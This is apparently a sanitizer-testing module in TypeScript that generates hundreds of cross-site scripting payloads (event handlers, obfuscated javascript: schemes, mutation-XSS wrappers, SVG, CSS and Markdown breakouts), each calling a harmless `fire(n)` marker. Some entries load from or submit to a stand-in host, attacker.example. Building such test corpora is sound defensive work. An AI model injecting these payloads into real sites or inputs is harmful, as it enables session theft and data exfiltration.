/**
 * Cross-site scripting vectors, made by combining the known classes of trick rather than kept as a list: where a
 * payload sits, how its tag, attribute or scheme is spelt, and how a parser may be confused about where it ends.
 *
 * Every payload calls `fire(n)`, so that a harness can tell which vector ran.
 */

/** One hostile fragment. `place` says where in the page it belongs. */
export interface Vector {
  readonly name: string;
  readonly place: 'body' | 'head' | 'attribute' | 'url' | 'metadata';
  readonly payload: string;
}

type Make = (call: string) => Iterable<readonly [name: string, payload: string]>;

const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'onblur',
  'oninput',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onscroll',
  'onwheel',
  'oncopy',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'onscrollend',
  'ontransitionend',
  'onpageshow',
  'onhashchange',
];

const CARRIERS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'object data=x',
  'marquee',
  'a href=# autofocus',
  'p tabindex=0 autofocus',
];

/** Ways to write `javascript:` that some URL parser still takes for it. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  '\u0001javascript:',
  '\u0000javascript:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  '&#1;javascript:',
  '\u200bjavascript:',
  '\u00a0javascript:',
  '\ufeffjavascript:',
  'javascript://%0a',
  'javascript://example.org/%0a',
  'vbscript:',
  'livescript:',
  'view-source:javascript:',
  'jar:javascript:',
  'feed:javascript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'filesystem:',
  'about:blank#',
  'file:///',
  'intent:',
  'ms-word:',
];

const URL_SINKS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">read on</a>`,
  (url) => `<a xlink:href="${url}">read on</a>`,
  (url) => `<img src="${url}" alt="x">`,
  (url) => `<img srcset="${url} 2x, https://example.org/a.png 1x" alt="x">`,
  (url) => `<img data-src="${url}" alt="x">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>Send</button></form>`,
  (url) => `<button formaction="${url}">Send</button>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<blockquote cite="${url}">Quoted words stand here.</blockquote>`,
  (url) => `<svg><a href="${url}"><text y="20">read on</text></a></svg>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `<area href="${url}">`,
  (url) => `<table background="${url}"><tr><td>cell</td></tr></table>`,
];

const events: Make = function* (call) {
  for (const carrier of CARRIERS) {
    for (const event of EVENTS) {
      yield [`event ${event} on ${carrier}`, `<${carrier} ${event}="${call}">text</${carrier.split(' ')[0]}>`];
    }
  }
};

const spellings: Make = function* (call) {
  const shapes: Record<string, string> = {
    'slash for space': `<img/src=x/onerror=${call}>`,
    'form feed': `<img\fsrc=x\fonerror=${call}>`,
    'vertical tab': `<img\u000bsrc=x onerror=${call}>`,
    'no quotes': `<img src=x onerror=${call}>`,
    'back quotes': `<img src=\`x\` onerror=\`${call}\`>`,
    'quote inside': `<img src='x'onerror='${call}'>`,
    'upper case': `<IMG SRC=x ONERROR="${call}">`,
    'mixed case': `<ImG sRc=x oNeRrOr="${call}">`,
    'entities in handler': `<img src=x onerror="&#102;ire${call.slice(4)}">`,
    'duplicate attribute': `<img src=x alt=1 alt=2 onerror=${call} onerror=void(0)>`,
    'two brackets': `<<img src=x onerror=${call}>>`,
    'nul in tag': `<im\u0000g src=x onerror=${call}>`,
    'nul in attribute': `<img src=x on\u0000error=${call}>`,
    'unclosed tag': `<img src=x onerror=${call} `,
    'unclosed quote': `<img src="x onerror=${call}>`,
    'greater in quote': `<img alt=">" src=x onerror=${call}>`,
    'attribute breaks out': `<img alt="&quot;&gt;&lt;img src=x onerror=${call}&gt;">`,
    'title breaks out': `<a title='"><img src=x onerror=${call}>' href="https://example.org/">read on</a>`,
    'escaped markup': `<p>&lt;img src=x onerror=${call}&gt; and &lt;script&gt;${call}&lt;/script&gt;</p>`,
    'escaped twice': `<p>&amp;lt;img src=x onerror=${call}&amp;gt;</p>`,
    cdata: `<![CDATA[<img src=x onerror=${call}>]]>`,
    'processing instruction': `<?xml version="1.0"?><?php <img src=x onerror=${call}> ?>`,
    'comment ends early': `<!--><img src=x onerror=${call}>-->`,
    'comment ends oddly': `<!-- --!><img src=x onerror=${call}> -->`,
    'comment never ends': `<!-- <img src=x onerror=${call}>`,
    'nested comment': `<!--<!----><img src=x onerror=${call}>-->`,
    'downlevel comment': `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
    doctype: `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${call}>">]>&e;`,
  };
  yield* Object.entries(shapes);
};

const scripts: Make = function* (call) {
  const inner = [call, `//<!--\n${call}\n//-->`, `/**/${call}`, `<!--\n${call}`];
  const opens = [
    '<script>',
    '<SCRIPT>',
    '<script >',
    '<script/x>',
    '<script type=module>',
    '<script type="text/javascript">',
    '<script language=javascript>',
    '<script\n>',
    '<script\u0000>',
    '<svg><script>',
    '<math><script>',
    '<svg><script type="text/ecmascript">',
    '<template><script>',
    '<noscript><script>',
    '<xmp><script>',
    '<select><script>',
    '<table><script>',
    '<frameset><script>',
  ];
  for (const open of opens) for (const code of inner) yield [`script ${open}`, `${open}${code}</script>`];
};

/** Mutation: safe to one parser, alive once serialized and read by another. */
const mutations: Make = function* (call) {
  const alive = `<img src=x onerror=${call}>`;
  const wrappers = [
    ['<noscript><p title="</noscript>', '">'],
    ['<noembed><p title="</noembed>', '">'],
    ['<noframes><p title="</noframes>', '">'],
    ['<iframe><p title="</iframe>', '">'],
    ['<xmp><p title="</xmp>', '">'],
    ['<style><p title="</style>', '">'],
    ['<title><p title="</title>', '">'],
    ['<textarea><p title="</textarea>', '">'],
    ['<plaintext><p title="', '">'],
    ['<template><p title="</template>', '">'],
    ['<svg><style><a title="</style>', '">'],
    ['<svg><title><a title="</title>', '">'],
    ['<svg></p><style><a id="</style>', '">'],
    ['<math><mtext><table><mglyph><style><!--</style>', '-->'],
    ['<math><mtext><table><mglyph><style><![CDATA[</style>', ']]>'],
    ['<form><math><mtext></form><form><mglyph><style></math>', ''],
    ['<svg><desc><style>', '</style></desc></svg>'],
    ['<svg><foreignObject><style>', '</style></foreignObject></svg>'],
    ['<math><annotation-xml encoding="text/html"><style>', '</style></annotation-xml></math>'],
    ['<svg><![CDATA[', ']]></svg>'],
    ['<table><td><a><svg><desc><table><td></a>', '</table>'],
    ['<p><table><tr><td><p></table>', ''],
    ['<select><template><style>', '</style></template></select>'],
    ['<listing>&lt;', '</listing>'],
    ['<div><h1><table><h1><svg><mtext><style>', '</style>'],
    ['<a><b><a><b><table><a>', '</table>'],
    ['<dialog open><form method=dialog>', '</form></dialog>'],
    ['<pre>\n\n&lt;', '</pre>'],
  ] as const;
  for (const [before, after] of wrappers) {
    yield [`mutation ${before}`, `${before}${alive}${after}`];
    yield [`mutation, escaped, ${before}`, `${before}&lt;img src=x onerror=${call}&gt;${after}`];
  }
};

const foreign: Make = function* (call) {
  const shapes: Record<string, string> = {
    'svg animate href': `<svg><a><animate attributeName=href values="javascript:${call}" /><text y=20>x</text></a></svg>`,
    'svg set onload': `<svg><set attributeName=onmouseover to="${call}"/><text y=20>x</text></svg>`,
    'svg use data': `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${call} /></svg>#x"/></svg>`,
    'svg image': `<svg><image href=x onerror=${call}></image></svg>`,
    'svg foreignObject': `<svg><foreignObject><body onload=${call}></body></foreignObject></svg>`,
    'svg handler': `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${call}</handler></svg>`,
    'math maction': `<math><maction actiontype="statusline#http://example.org" xlink:href="javascript:${call}">x</maction></math>`,
    'xlink in math': `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
    'svg feImage': `<svg><filter><feImage href="javascript:${call}"/></filter></svg>`,
    'svg font-face': `<svg><font-face-uri href="javascript:${call}"/></svg>`,
    'svg namespace prefix': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
    'svg namespaced attribute': `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${call}"><circle r=40 /></a></svg>`,
  };
  yield* Object.entries(shapes);
};

const styles: Make = function* (call) {
  const shapes: Record<string, string> = {
    'style url': `<p style="background:url(javascript:${call})">text</p>`,
    'style expression': `<p style="width:expression(${call})">text</p>`,
    'style import': `<style>@import 'javascript:${call}';</style>`,
    'style load': '<style>body{background:url(https://attacker.example/style)}</style>',
    'style attribute load': '<p style="background-image:url(https://attacker.example/attribute)">text</p>',
    'style animation': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${call}">text</p>`,
    'moz-binding': `<p style="-moz-binding:url('javascript:${call}')">text</p>`,
    stylesheet: '<link rel=stylesheet href="https://attacker.example/sheet.css">',
    'style escapes': `<p style="b\\61ckground:u\\72l(javascript:${call})">text</p>`,
    'style over the page': '<a href="https://attacker.example/" style="position:fixed;inset:0">cover</a>',
    'class and id': '<p id="document" class="fixed" name="cookie">clobber</p>',
  };
  yield* Object.entries(shapes);
};

const loaders: Make = function* (call) {
  const shapes: Record<string, string> = {
    refresh: `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    'refresh away': '<meta http-equiv=refresh content="0;url=https://attacker.example/refresh">',
    base: '<base href="https://attacker.example/base/">',
    'base javascript': `<base href="javascript:${call}//">`,
    preload: '<link rel=preload as=image href="https://attacker.example/preload">',
    prefetch: '<link rel=prefetch href="https://attacker.example/prefetch">',
    dns: '<link rel=dns-prefetch href="https://attacker.example/">',
    import: '<link rel=import href="https://attacker.example/import">',
    manifest: '<link rel=manifest href="https://attacker.example/manifest">',
    iframe: '<iframe src="https://attacker.example/frame"></iframe>',
    'iframe srcdoc': `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    'iframe srcdoc escaped': `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
    frame: '<frameset><frame src="https://attacker.example/frame"></frameset>',
    object: '<object data="https://attacker.example/object" type="text/html"></object>',
    embed: '<embed src="https://attacker.example/embed" type="text/html">',
    applet: '<applet code="x" archive="https://attacker.example/applet"></applet>',
    portal: '<portal src="https://attacker.example/portal"></portal>',
    video: '<video autoplay src="https://attacker.example/video.mp4" poster="https://attacker.example/poster.png"></video>',
    audio: '<audio autoplay src="https://attacker.example/audio.mp3"></audio>',
    track: '<video><track default src="https://attacker.example/track.vtt"></video>',
    'picture source': `<picture><source srcset="javascript:${call}"><img src="https://example.org/p.png" alt="x"></picture>`,
    'input image': '<input type=image src="https://attacker.example/input.png">',
    ping: '<a href="https://example.org/" ping="https://attacker.example/ping">read on</a>',
    form: '<form action="https://attacker.example/form"><input name=a value=b><button autofocus>Send</button></form>',
    opener: '<a href="https://example.org/" target=_blank rel=opener>read on</a>',
    attribution: '<img src="https://example.org/i.png" attributionsrc="https://attacker.example/attribution" alt="x">',
    'image lowsrc':
      '<img src="https://example.org/i.png" lowsrc="https://attacker.example/low" dynsrc="https://attacker.example/dyn" alt="x">',
    'custom element': '<x-run is="x-run" onclick="fire(0)">text</x-run>',
    'slot and template': `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
    popover: `<button popovertarget=p>open</button><p popover id=p onbeforetoggle=${call}>text</p>`,
    'speculation rules': '<script type="speculationrules">{"prerender":[{"urls":["https://attacker.example/prerender"]}]}</script>',
    'import map': '<script type="importmap">{"imports":{"x":"https://attacker.example/x.js"}}</script>',
  };
  yield* Object.entries(shapes);
};

/** Text that is harmless as HTML but alive where Markdown is rendered with raw HTML allowed. */
const markdown: Make = function* (call) {
  const shapes: Record<string, string> = {
    link: `<p>[read on](javascript:${call})</p>`,
    'link with title': `<p>[read on](javascript:${call} "title")</p>`,
    'link angle': `<p>[read on](&lt;javascript:${call}&gt;)</p>`,
    autolink: `<p>&lt;javascript:${call}&gt;</p>`,
    reference: `<p>[read on][1]</p><p>[1]: javascript:${call}</p>`,
    image: `<p>![x](x"onerror="${call})</p>`,
    'image quote': `<p>![x" onerror="${call}](https://example.org/x.png)</p>`,
    'raw tag': `<p>&lt;img src=x onerror=${call}&gt;</p>`,
    'raw tag over lines': `<p>&lt;img src=x<br>onerror=${call}&gt;</p>`,
    'raw tag over elements': `<p>&lt;img src=x <b>onerror=${call}</b> &gt;</p>`,
    'code fence ends': `<pre><code>\n\`\`\`\n&lt;img src=x onerror=${call}&gt;\n</code></pre>`,
    'code span ends': `<p><code>\`&lt;img src=x onerror=${call}&gt;\`</code></p>`,
    'long fence ends': `<pre><code>${'`'.repeat(12)}\n&lt;img src=x onerror=${call}&gt;</code></pre>`,
    'code language': `<pre><code class="language-x&quot;><img src=x onerror=${call}>">let a</code></pre>`,
    'table cell': `<table><tr><th>a</th><th>b</th></tr><tr><td>| &lt;img src=x onerror=${call}&gt; |</td><td>x</td></tr></table>`,
    heading: `<h2>Heading &lt;img src=x onerror=${call}&gt;</h2>`,
    list: `<ul><li>&lt;img src=x onerror=${call}&gt;</li></ul>`,
    'link text': `<p><a href="https://example.org/">x](javascript:${call}) [y</a></p>`,
    'link url breaks': `<p><a href="https://example.org/)&lt;img src=x onerror=${call}&gt;">read on</a></p>`,
    'alt breaks': `<img src="https://example.org/a.png" alt="](javascript:${call}) &lt;img src=x onerror=${call}&gt;">`,
    entity: `<p>&amp;lt;img src=x onerror=${call}&amp;gt;</p>`,
    backslash: `<p>\\&lt;img src=x onerror=${call}&gt;</p>`,
    'html block': `<p>&lt;script&gt;</p><p>${call}</p><p>&lt;/script&gt;</p>`,
    comment: `<p>&lt;!--</p><p>--&gt;&lt;img src=x onerror=${call}&gt;</p>`,
    footnote: `<p>[^1]</p><p>[^1]: &lt;img src=x onerror=${call}&gt;</p>`,
  };
  for (const [name, payload] of Object.entries(shapes)) yield [`markdown ${name}`, payload];
};

/** Values for attributes, metadata and headers: they must never leave their quotes. */
const VALUES: readonly ((call: string) => string)[] = [
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `"><script>${call}</script>`,
  (call) => `</title><img src=x onerror=${call}>`,
  (call) => `</script><img src=x onerror=${call}>`,
  (call) => `--><img src=x onerror=${call}>`,
  (call) => `" onmouseover="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `\` onerror=${call} \``,
  (call) => `javascript:${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  (call) => `<svg/onload=${call}>`,
  (call) => `]]><img src=x onerror=${call}>`,
  (call) => `\u2028${call}//`,
  (call) => `\u202e<img src=x onerror=${call}>`,
];

/** All vectors, numbered; the payload of number n calls `fire(n)`. */
export function allVectors(): Vector[] {
  const vectors: Vector[] = [];
  const add = (place: Vector['place'], name: string, make: (call: string) => string): void => {
    vectors.push({ name, place, payload: make(`fire(${vectors.length})`) });
  };
  const groups: readonly Make[] = [events, spellings, scripts, mutations, foreign, styles, loaders, markdown];
  for (const group of groups) {
    const names = [...group('')].map(([name]) => name);
    for (const [position, name] of names.entries()) {
      const place = name.startsWith('refresh') || name.startsWith('base') ? 'head' : 'body';
      add(place, name, (call) => [...group(call)][position]?.[1] ?? '');
    }
  }
  for (const scheme of SCHEMES) {
    for (const sink of URL_SINKS) add('url', `scheme ${JSON.stringify(scheme)} in ${sink('…')}`, (call) => sink(scheme + call));
  }
  for (const value of VALUES) {
    add('attribute', `attribute ${value('…')}`, value);
    add('metadata', `metadata ${value('…')}`, value);
  }
  return vectors;
}
